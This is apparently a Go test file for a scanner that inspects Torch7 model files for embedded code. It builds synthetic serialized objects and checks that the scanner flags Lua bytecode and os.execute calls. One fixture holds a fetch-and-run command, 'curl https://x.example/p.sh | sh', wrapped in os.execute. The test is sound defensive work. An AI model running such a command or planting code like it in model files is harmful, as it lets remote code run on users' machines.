package torch7_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"math"
	"os"
	"strings"
	"testing"

	"modelwall/scan"
	"modelwall/scan/data"
	"modelwall/scan/engine"
	"modelwall/scan/scantest"
	"modelwall/scan/torch7"
)

var le = binary.LittleEndian

func i32(v ...int) string {
	var b []byte
	for _, n := range v {
		b = le.AppendUint32(b, uint32(n))
	}
	return string(b)
}

func i64(v ...int) string {
	var b []byte
	for _, n := range v {
		b = le.AppendUint64(b, uint64(n))
	}
	return string(b)
}

func num(v float64) string { return i32(1) + string(le.AppendUint64(nil, math.Float64bits(v))) }
func str(s string) string  { return i32(2, len(s)) + s }

func table(index int, kv ...string) string {
	return i32(3, index, len(kv)/2) + strings.Join(kv, "")
}

func instance(index int, class, body string) string {
	return i32(4, index, 3) + "V 1" + i32(len(class)) + class + body
}

func floats(index, n int) string {
	return instance(index, "torch.FloatTensor", i32(1)+i64(n, 1, 1)+instance(index+1, "torch.FloatStorage", i64(n)+strings.Repeat("\x00\x00\x80\x3f", n)))
}

func function(index int, code string) string { return i32(8, index, len(code)) + code + i32(0) }

func model(more ...string) []byte {
	fields := append([]string{str("weight"), floats(10, 5), str("train"), i32(5, 0), str("again"), i32(4, 10)}, more...)
	return []byte(instance(1, "nn.Sequential", table(2, fields...)))
}

const ascii = "4\n1\n3\nV 1\n9\nnn.Linear\n3\n2\n2\n2\n4\nbias\n4\n3\n3\nV 1\n17\ntorch.FloatTensor\n1\n2\n1\n1\n4\n4\n3\nV 1\n18\ntorch.FloatStorage\n2\n0.5 -1e3\n2\n4\nname\n2\n%d\n%s\n"

func samples() []scantest.Sample {
	const info, sus = scan.Info, scan.SeveritySuspicious
	text := func(s string) []byte { return fmt.Appendf(nil, ascii, len(s), s) }
	broken := model(str("f"), function(20, "\x1bLJ"), str("g"), str("hh"))
	return []scantest.Sample{
		{Name: "module", Data: model(), Worst: info},
		{Name: "table", Data: []byte(table(1, str("epoch"), num(3), num(1), str("x"))), Worst: info},
		{Name: "words", Data: model(str("note"), str("executes the system in a fast way")), Worst: info},
		{Name: "ascii", Data: text("plain"), Worst: info},
		{Name: "mark, words", Data: []byte("T7\x00\x00torch.FloatTensor nn.Sequential\nlabel=execute_mode_fast\n"), Worst: info},
		{Name: "mark, command", Data: []byte("T7\x00\x00torch.FloatTensor\n-- note\ncmd = os.execute('curl https://x.example/p.sh | sh')\n"), Worst: sus},
		{Name: "function", Data: model(str("forward"), function(20, "\x1bLJ\x01\x00")), Worst: sus},
		{Name: "function of old", Data: model(str("forward"), i32(6, 4)+"\x1bLua"+i32(0)), Worst: sus},
		{Name: "function as text", Data: model(str("forward"), function(20, "os.execute('id')")), Worst: sus},
		{Name: "command", Data: model(str("note"), str("os.execute('id')")), Worst: sus},
		{Name: "ascii, command", Data: text("os.execute('id')"), Worst: sus},
		{Name: "cut off", Data: model()[:100], Err: scan.ErrMalformed},
		{Name: "function before the break", Data: broken[:len(broken)-1], Worst: sus, Err: scan.ErrMalformed},
		{Name: "huge storage", Data: []byte(instance(1, "nn.X", table(2, str("w"), instance(3, "torch.ByteStorage", i64(1<<40))))), Err: scan.ErrMalformed},
		{Name: "other storage", Data: []byte(instance(1, "torch.OddStorage", i64(1))), Err: scan.ErrLimit},
		{Name: "something else", Data: []byte(i32(3, 1, 2, 2, 1) + "a" + i32(99, 0, 0)), Err: scan.ErrForeign},
	}
}

func TestScanner(t *testing.T) { scantest.Run(t, torch7.New(), samples()) }

func TestNotMatched(t *testing.T) {
	for _, b := range []string{"", "T7", "4\n1\n", i32(3, 1, 0, 0), i32(3, 1, 1, 2, 5, 0, 0), i32(1, 1, 1, 1), strings.Repeat("\x00", 100)} {
		if torch7.New().Match(scantest.Probe("x.t7", []byte(b))) {
			t.Errorf("%q is matched", b)
		}
	}
}

type counting struct {
	io.ReaderAt
	n int64
}

func (c *counting) ReadAt(p []byte, off int64) (int, error) {
	n, err := c.ReaderAt.ReadAt(p, off)
	c.n += int64(n)
	return n, err
}

// TestBytesRead: tensors are skipped.
func TestBytesRead(t *testing.T) {
	b := model(str("big"), floats(30, 4<<20), str("f"), function(20, "\x1bLJ"))
	c := &counting{ReaderAt: bytes.NewReader(b)}
	r := &scantest.Record{}
	err := torch7.New().Scan(context.Background(), scan.File{Size: int64(len(b)), ReaderAt: c}, r)
	if err != nil || r.Worst() != scan.SeveritySuspicious || c.n > 256<<10 {
		t.Errorf("%v, %d bytes read, findings %+v", err, c.n, r.Findings)
	}
}

const corpus = "../../../shared/corpus"

func TestCorpus(t *testing.T) {
	if _, err := os.Stat(corpus); err != nil {
		t.Skip("the sample corpus is not here")
	}
	eng := engine.New(append([]scan.Scanner{torch7.New()}, data.New()...), engine.Limits{TempDir: t.TempDir()})
	n := 0
	for _, e := range scantest.Corpus(t, corpus) {
		if e.Format != "t7" {
			continue
		}
		n++
		b, err := os.ReadFile(e.Path)
		if err != nil {
			t.Fatal(err)
		}
		r, err := eng.Inspect(context.Background(), scantest.Bytes(e.Path, b))
		if err != nil {
			t.Fatal(err)
		}
		if flagged := r.Worst() >= scan.SeveritySuspicious; flagged != (e.Label != "benign") || r.Error != "" {
			t.Errorf("%s %s: %v %v %s %+v", e.Label, e.Path, r.Formats, r.Verdict, r.Error, r.Findings)
		}
	}
	if n == 0 {
		t.Error("no Torch7 file in the corpus")
	}
}

func FuzzScan(f *testing.F) {
	for _, s := range samples() {
		f.Add(s.Data)
	}
	s := torch7.New()
	f.Fuzz(func(t *testing.T, b []byte) { scantest.Fuzz(t, s, b) })
}
